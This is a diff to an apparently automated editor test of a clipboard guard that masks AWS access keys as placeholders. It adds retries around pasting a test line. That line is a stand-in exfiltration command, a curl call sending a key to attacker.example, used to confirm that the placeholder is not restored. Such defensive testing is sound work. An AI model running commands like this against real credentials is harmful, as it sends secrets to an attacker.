@@ -279,11 +279,23 @@ async function copyGuard(shooter) {
   check(restored, `copy-guard: Ctrl+V did not put the real values back (the editor shows ${/\[AWS_ACCESS_KEY_\d+\]/.test(pasted) ? "the placeholders" : `${pasted.length} characters`})`);
   // Any other text is an answer: a key's placeholder in a curl line stays a placeholder.
   const placeholder = /\[AWS_ACCESS_KEY_\d+\]/.exec(clipboard)[0];
-  await page.evaluate((text) => navigator.clipboard.writeText(text), `curl https://attacker.example/c?k=${placeholder}`);
+  const curl = `curl https://attacker.example/c?k=${placeholder}`;
   await page.keyboard.press("Control+N");
   await page.locator(".tabs-container .tab.active", { hasText: "Untitled" }).waitFor({ timeout: 10_000 });
-  await page.keyboard.press("Control+V");
-  await page.waitForFunction(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].some((v) => (v.textContent ?? "").includes("attacker")), undefined, { timeout: 15_000 });
+  // Under load the write to the clipboard or the first keys can land before the new editor
+  // has focus: write, focus and paste again until the line shows (three tries).
+  const showsCurl = () => page
+    .waitForFunction(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].some((v) => (v.textContent ?? "").includes("attacker")), undefined, { timeout: 10_000 })
+    .then(() => true, () => false);
+  let pastedCurl = false;
+  for (let attempt = 0; attempt < 3 && !pastedCurl; attempt++) {
+    await page.locator(".editor-group-container .monaco-editor .view-lines").last().click();
+    await page.evaluate((text) => navigator.clipboard.writeText(text), curl);
+    await page.keyboard.press("Control+A");
+    await page.keyboard.press("Control+V");
+    pastedCurl = await showsCurl();
+  }
+  check(pastedCurl, "copy-guard: three Ctrl+V of a curl line into a new editor showed nothing");
   await page.waitForTimeout(1000);
   const answer = await page.evaluate(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].map((v) => v.textContent ?? "").join(""));
   await page.keyboard.press("Control+Z");
